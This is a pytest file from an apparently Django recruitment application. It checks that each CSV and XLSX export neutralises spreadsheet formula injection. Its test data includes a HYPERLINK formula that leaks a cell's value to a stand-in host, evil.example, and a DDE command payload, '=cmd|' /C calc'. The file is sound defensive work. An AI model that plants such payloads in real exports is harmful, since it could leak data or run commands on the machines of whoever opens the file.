"""Every CSV the project serves goes through rekryt.lib.safecsv and
neutralises spreadsheet formulas. A new CSV export fails
`test_every_csv_export_is_known_here` until it has a test in this file."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from django.urls import reverse

from rekryt.audit.models import Action, AuditEntry
from rekryt.lib.safecsv import neutralise
from rekryt.surveys.tests.helpers import make_answer

ROOT = Path(__file__).resolve().parents[2]  # the rekryt package
HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "@SUM(A1:A9)", "-2", "\t=1+1"]
# Module -> the URL names of the CSV exports it serves (each tested below).
EXPORTS = {
    "audit/views.py": {"audit_export"},
    "surveys/staff_views.py": {"cnps_export"},
    "imports/views.py": {"import_report"},
    "analytics/views.py": {
        "analytics_funnel_csv",
        "analytics_sources_csv",
        "analytics_experience_csv",
    },
}
# Modules that write CSV that is never served: a JSON Resume turned into the
# importer's own input, which then goes through the importer's checks.
INTERNAL_CSV = ["imports/jsonresume.py"]


def source_files():
    for path in sorted(ROOT.rglob("*.py")):
        relative = path.relative_to(ROOT).as_posix()
        if "/tests/" in f"/{relative}" or "/migrations/" in relative:
            continue
        yield relative, path.read_text(encoding="utf-8")


def test_every_csv_export_is_known_here():
    users = {name for name, text in source_files() if "csv_response(" in text}
    users.discard("lib/safecsv.py")
    assert users == set(EXPORTS), (
        "A module serves CSV through csv_response that this test does not know (or one "
        "stopped): add it to EXPORTS in rekryt/ops/tests/test_security_csv.py with a test "
        f"that hostile cells come out neutralised. Found: {sorted(users)}"
    )


def test_no_csv_is_written_around_safecsv():
    raw = re.compile(r"csv\.(writer|DictWriter)\(")
    offenders = [
        name for name, text in source_files() if raw.search(text) and name not in INTERNAL_CSV
    ]
    assert offenders == ["lib/safecsv.py"], (
        f"Write CSV with rekryt.lib.safecsv.csv_response, not csv.writer: {offenders}"
    )


@pytest.mark.parametrize("value", [*HOSTILE, "\r=1", "=cmd|' /C calc'!A0"])
def test_neutralise_makes_each_formula_text(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Anna", "", "1+1", "a=b", 42, -3, 1.5])
def test_neutralise_leaves_ordinary_values(value):
    assert neutralise(value) == value


def rows(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_the_cnps_export_neutralises_formulas(client, rita, job):
    for value in HOSTILE:
        make_answer(7, job=job, comment=value)
    client.force_login(rita)
    comments = {row[5] for row in rows(client.get(reverse("cnps_export")))[1:]}
    assert comments == {"'" + value for value in HOSTILE}


def test_the_audit_export_neutralises_formulas(client, alice):
    for value in HOSTILE:
        AuditEntry.objects.create(action=Action.LOGIN_FAILED, summary=value, target_id=value[:40])
    client.force_login(alice)
    found = rows(client.get(reverse("audit_export"), {"action": "login_failed"}))[1:]
    assert {row[5] for row in found} == {"'" + value for value in HOSTILE}
    assert {row[4] for row in found} == {"'" + value[:40] for value in HOSTILE}


def test_the_import_report_neutralises_formulas(client, rita):
    """A refused row's column comes from the uploaded file's own header."""
    from rekryt.imports.models import ImportJob, Status

    job = ImportJob.objects.create(
        token="t" * 32,
        original_name="people.csv",
        status=Status.DONE,
        refused=[[n + 2, value, value] for n, value in enumerate(HOSTILE)],
        created_by=rita,
    )
    client.force_login(rita)
    found = rows(client.get(reverse("import_report", args=[job.token])))[1:]
    assert {row[1] for row in found} == {"'" + value for value in HOSTILE}
    assert {row[2] for row in found} == {"'" + value for value in HOSTILE}


def xlsx_cells(response):
    """The text of every cell of an XLSX export (the XML must parse)."""
    import zipfile

    from defusedxml import ElementTree

    assert response.status_code == 200
    assert "spreadsheetml" in response["Content-Type"]
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
    assert not list(sheet.iter(f"{main}f"))  # no formula cells
    return ["".join(t.text or "" for t in cell.iter(f"{main}t")) for cell in sheet.iter(f"{main}c")]


def test_the_analytics_exports_neutralise_formulas(client, rita, job):
    from conftest import make_application
    from rekryt.analytics.tests.helpers import deliver_and_roll_up
    from rekryt.applications.actions import set_outcome
    from rekryt.applications.models import Outcome, RejectionReason
    from rekryt.campaigns.tests.helpers import campaign, channel

    stage = job.stages.order_by("order").first()
    stage.name_en = stage.name_sv = HOSTILE[0]
    stage.save()
    for value in HOSTILE:
        reason = RejectionReason.objects.create(name_sv=value, name_en=value)
        for _n in range(5):
            set_outcome(make_application(job, source="mässan"), Outcome.REJECTED, rita, reason)
    channel(campaign([job]), "massan", name=HOSTILE[2], cost=1000)
    deliver_and_roll_up(days=0)
    client.force_login(rita)
    for page in ("funnel", "sources", "experience"):
        for query in ({}, {"job": job.pk}):
            url = reverse(f"analytics_{page}_csv")
            cells = [c for row in rows(client.get(url, query)) for c in row]
            xlsx = xlsx_cells(client.get(reverse(f"analytics_{page}_xlsx"), query))
            for found in (cells, xlsx):
                assert not [c for c in found if str(c).startswith(("=", "+", "@", "\t"))]
                if page == "funnel":
                    assert "'" + HOSTILE[0] in found and "'" + HOSTILE[2] in found
                if page == "sources":
                    assert "'" + HOSTILE[2] in found
